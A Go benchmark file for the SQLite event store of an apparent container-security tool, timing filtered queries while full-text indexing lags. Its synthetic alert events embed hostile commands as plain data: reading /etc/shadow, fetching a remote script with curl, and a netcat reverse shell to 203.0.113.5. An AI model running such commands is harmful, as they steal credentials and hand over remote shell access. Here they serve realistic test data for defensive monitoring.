package sqlitestore

import (
	"context"
	"database/sql"
	"fmt"
	"path/filepath"
	"runtime"
	"syscall"
	"testing"
	"time"

	"github.com/containersec/container-security/pkg/events"
)

// BenchmarkTailQuery is the cost of a filtered query that reads the unindexed tail itself: the index file's write
// lock is held (the FTS writer cannot index) while 2,000 events arrive, an FTS interval at 20,000 events/s, and
// ftsBacklog, the most the events writer lets it fall behind. go test -run '^$' -bench TailQuery ./pkg/events/sqlitestore/
func BenchmarkTailQuery(b *testing.B) {
	for _, tail := range []int{2000, ftsBacklog} {
		b.Run(fmt.Sprintf("tail=%d", tail), func(b *testing.B) {
			s, err := Open(Config{Path: filepath.Join(b.TempDir(), "events.db"), PruneEvery: -1})
			if err != nil {
				b.Fatal(err)
			}
			defer s.Close()
			mk := func(i int) events.Event {
				body := fmt.Sprintf(`{"uuid":"u-%d","rule":"Rule %d","priority":"Warning","time":%q,"hostname":"node-1","source":"syscall","tags":["container"],
					"output":"%s: Rule %d | user=root command=%s k8s_pod_name=pod-%d k8s_ns_name=team-%02d","output_fields":{"k8s.ns.name":"team-%02d","k8s.pod.name":"pod-%d"}}`,
					i, i%60, t0.Add(time.Duration(i)*time.Millisecond).Format(time.RFC3339Nano), t0.Add(time.Duration(i)*time.Millisecond).Format("15:04:05.000"),
					i%60, []string{"bash -il", "cat /etc/shadow", "curl -s http://x/i.sh", "nc -e /bin/sh 203.0.113.5 4444", "python3"}[i%5], i%400, i%40, i%40, i%400)
				evs, err := events.Parse([]byte(body), events.Options{})
				if err != nil {
					b.Fatal(err)
				}
				return evs[0]
			}
			var batch []events.Event
			for i := range 50000 {
				batch = append(batch, mk(i))
				if len(batch) == 2000 {
					if _, err := s.Ingest(context.Background(), batch); err != nil {
						b.Fatal(err)
					}
					batch = nil
				}
			}
			s.WaitIndexed(context.Background())
			lock, _ := sql.Open("sqlite", FTSPath(s.Path()))
			defer lock.Close()
			conn, _ := lock.Conn(context.Background())
			if _, err := conn.ExecContext(context.Background(), `BEGIN IMMEDIATE`); err != nil {
				b.Fatal(err)
			}
			for i := 50000; i < 50000+tail; i += 100 {
				var evs []events.Event
				for j := i; j < i+100; j++ {
					evs = append(evs, mk(j))
				}
				if _, err := s.Ingest(context.Background(), evs); err != nil {
					b.Fatal(err)
				}
			}
			crit := events.Critical
			queries := []events.Filters{{Namespaces: []string{"team-07"}}, {Rules: []string{"Rule 3"}}, {MinPriority: &crit}, {Text: "shadow"}}
			// CPU time of this thread per query: the machine the benchmark runs on may be shared.
			runtime.LockOSThread()
			defer runtime.UnlockOSThread()
			b.ResetTimer()
			c0 := threadCPU()
			for i := range b.N {
				if _, err := s.List(context.Background(), events.ListRequest{From: t0, To: t0.Add(time.Hour), Filters: queries[i%len(queries)]}); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64((threadCPU()-c0).Microseconds())/1000/float64(b.N), "cpu-ms/op")
			b.StopTimer()
			_, _ = conn.ExecContext(context.Background(), `ROLLBACK`)
			conn.Close()
		})
	}
}

func threadCPU() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(1, &ru); err != nil { // RUSAGE_THREAD (Linux)
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
